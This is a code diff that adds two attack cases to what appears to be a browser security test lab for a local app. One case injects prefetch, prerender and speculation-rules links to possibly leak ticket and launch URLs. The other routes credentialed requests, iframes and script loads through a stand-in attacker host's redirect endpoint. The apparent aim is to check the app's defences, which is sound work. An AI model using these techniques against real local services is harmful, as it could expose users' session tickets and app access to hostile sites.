@@ -148,6 +148,42 @@ lab.attack("posting forms", async () => {
   return {};
 });
 
+// Ahead of need, as a browser does it of its own accord.
+lab.attack("fetching ahead", async () => {
+  const ticket = await lab.ask("ticket");
+  const launch = await lab.ask("launch");
+  const urls = [main + "/", main + "/config.js", ticket, launch];
+  for (const href of urls) {
+    for (const rel of ["prefetch", "prerender", "preload", "modulepreload"]) document.head.append(Object.assign(document.createElement("link"), { rel, href, as: rel === "preload" ? "script" : "" }));
+  }
+  const rules = document.createElement("script");
+  rules.type = "speculationrules";
+  rules.text = JSON.stringify({ prefetch: [{ source: "list", urls }], prerender: [{ source: "list", urls }] });
+  document.head.append(rules);
+  await lab.sleep(1500);
+  await lab.leave("ticket ahead", ticket);
+  await lab.leave("launch ahead", launch);
+  return {};
+});
+
+// What is redirected to the app is this site's request still.
+lab.attack("by redirect", async () => {
+  const by = (to) => `${lab.evil}/redirect/?to=${encodeURIComponent(to)}`;
+  const child = Object.assign(document.createElement("iframe"), { src: by(main + "/") });
+  document.body.append(child);
+  const w = window.open(by(main + "/?idle"));
+  const facts = {
+    fetch: await lab.tell(async () => (await fetch(by(main + "/config.js"), { mode: "no-cors", credentials: "include" })).type),
+    script: await lab.tell(() => lab.load("script", { src: by(main + "/config.js") }), 700),
+    ticket: await lab.tell(() => lab.load("script", { src: by(`${frame}/frame/${"A".repeat(43)}`) }), 700),
+  };
+  await lab.sleep(400);
+  facts.client = await lab.tell(() => typeof w.sallyport);
+  facts.frames = await lab.tell(() => String(child.contentWindow.length));
+  w?.close();
+  return facts;
+});
+
 // Names that lead to the app's ports and are not its own, as a rebinding DNS
 // name would.
 lab.attack("another name for the same ports", async () => {
